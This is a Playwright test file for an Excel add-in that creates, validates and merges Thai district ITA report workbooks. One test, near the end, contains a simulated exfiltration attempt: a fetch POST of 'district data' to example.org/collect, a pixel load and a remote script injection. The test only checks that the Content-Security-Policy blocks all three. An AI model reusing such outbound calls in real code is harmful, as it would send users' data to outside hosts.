import { execFileSync, spawnSync } from "child_process";
import { promises as fs } from "fs";
import os from "os";
import path from "path";
import { Browser, Page } from "playwright-core";
import {
  ARTIFACTS,
  axe,
  launch,
  overflowX,
  ROOT,
  screenshots,
  serve,
  strayRequests,
  Traffic,
  watchTraffic,
} from "./support";

const ITA = path.join(ROOT, "bin", "ita.js");
const SAMPLE = JSON.parse(
  require("fs").readFileSync(path.join(ROOT, "samples", "chom-thong-2567-r6.json"), "utf8")
) as { items: { code: string; score: number }[] };

type ItaTest = {
  cellOf(code: string, field: string): string;
  type(address: string, value: string | number): void;
  value(address: string): unknown;
  sheetNames(): string[];
  selected(): string | null;
  xlsxBase64(): Promise<string>;
};
const it$ = (page: Page) =>
  page.evaluateHandle(() => (window as unknown as { itaTest: ItaTest }).itaTest);

let server: { url: string; close: () => Promise<void> };
let browser: Browser;
let dir: string;

beforeAll(async () => {
  server = await serve();
  browser = await launch();
  dir = await fs.mkdtemp(path.join(os.tmpdir(), "ita-e2e-"));
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

const origin = () => new URL(server.url).origin;
const traffic = new WeakMap<Page, Traffic>();

async function open(width = 500, query = ""): Promise<Page> {
  const page = await browser.newPage({ viewport: { width, height: 900 }, reducedMotion: "reduce" });
  const errors: string[] = [];
  page.on("pageerror", (e) => errors.push(String(e)));
  traffic.set(page, await watchTraffic(page, origin()));
  await page.goto(`${server.url}${query}`);
  (page as unknown as { errors: string[] }).errors = errors;
  return page;
}

/** The pane made no request beyond its own server (and the Office.js CDN), and broke no CSP rule. */
function expectTalkedToNoOne(page: Page) {
  const t = traffic.get(page)!;
  expect(strayRequests(t, origin())).toEqual([]);
  expect(t.violations).toEqual([]);
  expect(t.requests.length).toBeGreaterThan(0);
}

async function checkView(page: Page, name: string) {
  // Measure colours at rest: no hover, no transition half-way.
  await page.mouse.move(1, 1);
  await page.waitForTimeout(400);
  expect(await axe(page)).toEqual([]);
  await screenshots(page, name);
  await page.setViewportSize({ width: 320, height: 900 });
  expect(await overflowX(page)).toBeLessThanOrEqual(0);
  await page.setViewportSize({ width: 500, height: 900 });
}

describe("the task pane in Chromium", () => {
  let filledFile: string;

  it("district flow: create the form, type scores, validate, go to I22, insert measures, ready to submit", async () => {
    const page = await open();
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    await checkView(page, "1-create");
    await page.getByRole("combobox", { name: /หน่วยงาน/ }).fill("จอมทอง");
    // The sample is a 6-month report; the default follows the calendar (12-month from October to March).
    await page.getByRole("radio", { name: "6 เดือน" }).check();
    await page.getByRole("button", { name: "สร้างแบบรายงาน" }).click();
    await page.getByText(/^สร้างชีตแล้ว: ITA \d{4} รอบ 6$/).waitFor();

    const t = await it$(page);
    // The user types the scores into Excel; I1 in Thai digits.
    await t.evaluate((x, items) => {
      for (const it of items)
        x.type(x.cellOf(it.code, "score"), it.code === "I1" ? "๙๖.๓๑" : it.score);
      x.type(x.cellOf("O1-O22", "evidence"), "https://www.bangkok.go.th/chomthong/ita/o1-o22");
      x.type(x.cellOf("O23-O30", "evidence"), "https://www.bangkok.go.th/chomthong/ita/o23-o30");
    }, SAMPLE.items);

    await page.getByRole("tab", { name: "ตรวจสอบ" }).click();
    await page.getByRole("button", { name: "ตรวจสอบก่อนส่ง" }).click();
    await page.getByText("ยังส่งไม่ได้").waitFor();
    await page.getByRole("button", { name: "แปลงคะแนนที่พิมพ์เป็นข้อความให้เป็นตัวเลข (1)" }).waitFor();
    await checkView(page, "2-validate");
    const issue = page.getByRole("button", {
      name: /^ข้อผิดพลาด: ข้อ I22 ได้ 82\.01 คะแนน.*ไปที่เซลล์ E\d+$/,
    });
    await issue.click();
    const measuresCell = await t.evaluate((x) => x.cellOf("I22", "measures"));
    await page.waitForFunction(
      (c) => (window as unknown as { itaTest: ItaTest }).itaTest.selected()?.endsWith(`!${c}`),
      measuresCell
    );

    await page.getByRole("tab", { name: "ต่ำกว่าเกณฑ์" }).click();
    await page.getByRole("table", { name: "ข้อที่ได้คะแนนต่ำกว่าเกณฑ์" }).getByText("82.01").waitFor();
    await checkView(page, "3-flags");
    await page.getByRole("button", { name: "ใส่มาตรการที่เลือก (I22)" }).click();
    await page.getByText("I22: ใส่มาตรการแล้ว แก้ไขต่อได้ในเซลล์").waitFor();
    expect(await t.evaluate((x, c) => x.value(c), measuresCell)).toMatch(/^1\. นำผลการประเมิน ITA/);

    await page.getByRole("tab", { name: "ตรวจสอบ" }).click();
    await page.getByRole("button", { name: "ตรวจสอบก่อนส่ง" }).click();
    await page.getByText("พร้อมส่ง", { exact: true }).waitFor();
    await checkView(page, "4-ready");

    filledFile = path.join(dir, "1035-from-the-pane.xlsx");
    await fs.writeFile(filledFile, Buffer.from(await t.evaluate((x) => x.xlsxBase64()), "base64"));
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    expectTalkedToNoOne(page);
    await page.close();
  });

  it("the form filled in the pane reads and merges like one made by the CLI", async () => {
    const read = JSON.parse(
      execFileSync(process.execPath, [ITA, "read", filledFile], { encoding: "utf8" })
    );
    expect(read.unitCode).toBe("1035");
    expect(read.items.find((i: { code: string }) => i.code === "I1").score).toBe(96.31);
    expect(read.items.find((i: { code: string }) => i.code === "I22").measures).toMatch(
      /^1\. นำผลการประเมิน ITA/
    );
    const other = path.join(dir, "1002.xlsx");
    execFileSync(process.execPath, [
      ITA,
      "scaffold",
      "-o",
      other,
      "--unit",
      "ดุสิต",
      "--year",
      String(read.fiscalYear),
      "--from",
      path.join(ROOT, "samples", "chom-thong-2567-r6.json"),
    ]);
    const r = spawnSync(
      process.execPath,
      [ITA, "merge", filledFile, other, "-o", path.join(dir, "summary.xlsx"), "--json"],
      { encoding: "utf8" }
    );
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout).merged.map((m: { unitCode: string }) => m.unitCode)).toEqual([
      "1002",
      "1035",
    ]);
  });

  /** Three district files: two forms made by `ita` and meeting notes named like a workbook. */
  async function centralFiles(): Promise<string[]> {
    const files = [
      path.join(dir, "a-1035.xlsx"),
      path.join(dir, "b-1002.xlsx"),
      path.join(dir, "c-notes.xlsx"),
    ];
    const sample = path.join(ROOT, "samples", "chom-thong-2567-r6.json");
    execFileSync(process.execPath, [ITA, "scaffold", "-o", files[0], "--from", sample]);
    execFileSync(process.execPath, [
      ITA,
      "scaffold",
      "-o",
      files[1],
      "--unit",
      "1002",
      "--year",
      "2567",
      "--from",
      sample,
    ]);
    await fs.writeFile(files[2], "these are meeting notes, not a workbook");
    return files;
  }

  /** axe at rest, no horizontal overflow at 270 px (the pane's default on Mac) and 320 px, screenshots. */
  async function checkMerge(page: Page, name: string) {
    await page.mouse.move(1, 1);
    await page.waitForTimeout(400);
    expect(await axe(page)).toEqual([]);
    for (const width of [270, 320]) {
      await page.setViewportSize({ width, height: 900 });
      // Fluent's message bars choose their layout after a resize (ResizeObserver): let them settle.
      await page
        .waitForFunction(
          () => document.documentElement.scrollWidth <= document.documentElement.clientWidth,
          undefined,
          { timeout: 3000 }
        )
        .catch(() => undefined);
      // The elements that stick out, named, when the page is wider than the pane.
      const wide = await page.evaluate(() =>
        Array.from(document.querySelectorAll("body *"))
          .filter(
            (e) => e.getBoundingClientRect().right > document.documentElement.clientWidth + 0.5
          )
          .map((e) => `${e.tagName.toLowerCase()}.${e.className} "${e.textContent?.slice(0, 40)}"`)
      );
      expect({ width, overflow: await overflowX(page), wide }).toEqual({
        width,
        overflow: 0,
        wide: [],
      });
    }
    await page.setViewportSize({ width: 270, height: 900 });
    await page.waitForTimeout(150);
    await fs.mkdir(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: path.join(ARTIFACTS, `${name}-270.png`), fullPage: true });
    await screenshots(page, name);
  }

  it("central flow: files added pick by pick, merged with the problems first, the central report downloaded", async () => {
    const files = await centralFiles();
    const page = await open();
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    await page.getByRole("tab", { name: "รวมรายงาน" }).click();
    // In the merge view (other views stay mounted), the files to merge come first; the previous
    // period's have an input of their own.
    const inputs = page
      .getByRole("region", { name: "รวมรายงานของสำนักงานเขต" })
      .locator('input[type="file"]');
    const input = inputs.first();
    // Two picks add up; the same file picked again is listed once.
    await input.setInputFiles(files.slice(0, 2));
    await input.setInputFiles([files[2], files[0]]);
    const chosen = page.getByRole("list", { name: "ไฟล์ที่เลือก (3)" });
    expect(await chosen.getByRole("listitem").allTextContents()).toEqual([
      "a-1035.xlsxนำออก",
      "b-1002.xlsxนำออก",
      "c-notes.xlsxนำออก",
    ]);
    await page.getByText("ไม่ได้เพิ่มซ้ำ (เลือกไว้แล้ว): a-1035.xlsx").waitFor();
    await checkMerge(page, "5-merge");

    // The clear dialog: checked by axe, and Escape returns to the button that opened it.
    await page.getByRole("button", { name: "ล้างรายการ" }).click();
    await page.getByRole("dialog").waitFor();
    expect(await axe(page)).toEqual([]);
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    await page.waitForFunction(() => document.activeElement?.textContent === "ล้างรายการ");

    // Compared with the previous year: a summary `ita merge` wrote of Chom Thong's 2566 report.
    const prev = path.join(dir, "prev-1035.xlsx");
    const prevSummary = path.join(dir, "summary-2566.xlsx");
    const sample = path.join(ROOT, "samples", "chom-thong-2567-r6.json");
    execFileSync(process.execPath, [
      ITA,
      "scaffold",
      "-o",
      prev,
      "--year",
      "2566",
      "--from",
      sample,
    ]);
    execFileSync(process.execPath, [ITA, "merge", prev, "-o", prevSummary, "--expect", "none"]);
    await inputs.nth(1).setInputFiles([prevSummary]);
    expect(
      await page
        .getByRole("list", { name: "ไฟล์ครั้งก่อนที่เลือก (1)" })
        .getByRole("listitem")
        .allTextContents()
    ).toEqual(["summary-2566.xlsxนำออก"]);

    await page.getByRole("button", { name: "รวมรายงาน", exact: true }).click();
    await page.getByText("เขียนสรุปลงในสมุดงานนี้แล้ว").waitFor();
    await page.waitForFunction(() => document.activeElement?.id === "merge-results-title");
    expect(await page.locator("#merge-compare").textContent()).toMatch(
      /^เทียบกับปีงบประมาณ 2566 รอบ 6 เดือน: คะแนนรวมโดยประมาณดีขึ้น 0 หน่วยงาน ลดลง 0 เท่าเดิม 1 จาก 1 หน่วยงานที่เทียบได้/
    );
    expect(await page.locator("#merge-counts").textContent()).toBe(
      "ไม่รับ 1 ไฟล์ · ยังไม่ส่ง 48 หน่วยงาน · รวมแล้ว 2 หน่วยงาน จาก 3 ไฟล์"
    );
    const rejected = page.getByRole("list", { name: "ไฟล์ที่ไม่รับ (1)" });
    await rejected.getByText(/c-notes\.xlsx — ไฟล์ c-notes\.xlsx ไม่ใช่ไฟล์ Excel/).waitFor();
    // Problems come first on the page.
    const tops = await page.evaluate(() =>
      ["merge-rejected", "merge-missing", "merge-merged"].map(
        (id) => document.getElementById(id)!.getBoundingClientRect().top
      )
    );
    expect([...tops].sort((a, b) => a - b)).toEqual(tops);
    await page.getByRole("button", { name: "แสดงทั้งหมด 48 รายการ" }).waitFor();
    const t = await it$(page);
    expect(await t.evaluate((x) => x.sheetNames())).toEqual([
      "Sheet1",
      "ITA คะแนน",
      "ITA เทียบปีก่อน",
      "ITA ต่ำกว่าเกณฑ์",
      "ITA สรุปมาตรการ",
      "ITA สถานะการส่ง",
    ]);
    await checkMerge(page, "6-merged");

    await page.getByLabel("หน่วยงานผู้รวบรวม").fill("กองวินัยและเสริมสร้างจริยธรรม สำนักงาน ก.ก. (ทดสอบ)");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "ดาวน์โหลดรายงานกลาง (.docx)" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("ITA-report-2567-r6.docx");
    const docx = path.join(dir, "report.docx");
    await download.saveAs(docx);
    const bytes = await fs.readFile(docx);
    expect(bytes.subarray(0, 2).toString("latin1")).toBe("PK");
    const text = execFileSync("unzip", ["-p", docx, "word/document.xml"], { encoding: "utf8" });
    expect(text).toContain("(ทดสอบ)");
    expect(text).toContain("สำนักงานเขตจอมทอง");
    expect(text).toContain("การเปลี่ยนแปลงเมื่อเทียบกับปีงบประมาณ 2566 รอบ 6 เดือน");
    await page.getByText("บันทึก ITA-report-2567-r6.docx แล้ว ดูในโฟลเดอร์ดาวน์โหลด").waitFor();
    expect(await axe(page)).toEqual([]);
    // The office is remembered for the next report.
    expect(await page.evaluate(() => localStorage.getItem("ita.office"))).toMatch(/\(ทดสอบ\)$/);
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    expectTalkedToNoOne(page);
    await page.close();
  });

  it("central flow in English and the dark theme: reasons in English, no overflow at 270 px", async () => {
    const files = await centralFiles();
    // Opened at 270 px, the default pane width of Excel on the Mac.
    const page = await open(270, "?ui=en-US&theme=dark");
    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
    await page.getByRole("tab", { name: "Merge" }).click();
    await page
      .getByRole("region", { name: "Merge district workbooks" })
      .locator('input[type="file"]')
      .first()
      .setInputFiles(files);
    await page.getByRole("button", { name: "Merge", exact: true }).click();
    await page.getByText("The summary is written into this workbook").waitFor();
    await page
      .getByRole("list", { name: "Rejected files (1)" })
      .getByText(/c-notes\.xlsx — c-notes\.xlsx is not an Excel workbook/)
      .waitFor();
    await page
      .getByRole("list", { name: "Units not received (48)" })
      .getByText("Phra Nakhon")
      .waitFor();
    expect(await page.locator("#merge-counts").textContent()).toBe(
      "1 file rejected · 48 units not received · 2 units merged from 3 files"
    );
    await checkMerge(page, "7-merged-dark-en");
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    await page.close();
  });

  it("cannot reach anyone else: the Content-Security-Policy refuses requests to other origins", async () => {
    const page = await open(500, "?ui=en-US");
    // Office's UI language is English here, so the pane opens in English.
    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
    const attempts = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        seen.push(`${e.violatedDirective} ${e.blockedURI}`)
      );
      const tries = [
        fetch("https://example.org/collect", { method: "POST", body: "district data" }).then(
          () => "fetch sent",
          () => "fetch refused"
        ),
        new Promise((resolve) => {
          const img = new Image();
          img.onload = () => resolve("image loaded");
          img.onerror = () => resolve("image refused");
          img.src = "https://example.org/pixel.gif";
        }),
        new Promise((resolve) => {
          const s = document.createElement("script");
          s.onload = () => resolve("script loaded");
          s.onerror = () => resolve("script refused");
          s.src = "https://cdn.example.org/x.js";
          document.head.appendChild(s);
        }),
      ];
      const results = await Promise.all(tries);
      await new Promise((r) => setTimeout(r, 50));
      return { results, seen };
    });
    expect(attempts.results).toEqual(["fetch refused", "image refused", "script refused"]);
    expect(attempts.seen.map((s) => s.split(" ")[0]).sort()).toEqual([
      "connect-src",
      "img-src",
      "script-src-elem",
    ]);
    // Refused by the policy before any request left the page.
    expect(strayRequests(traffic.get(page)!, origin())).toEqual([]);
    await page.close();
  });

  it("follows a dark Office theme and switches to English", async () => {
    const page = await browser.newPage({ viewport: { width: 320, height: 700 } });
    await page.goto(`${server.url}?theme=dark`);
    await page.getByRole("tab", { name: "EN" }).click();
    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
    const bg = await page.evaluate(
      () => getComputedStyle(document.querySelector("main")!).backgroundColor
    );
    expect(bg).not.toBe("rgb(255, 255, 255)");
    expect(await axe(page)).toEqual([]);
    await screenshots(page, "7-dark-en");
    await page.close();
  });
});
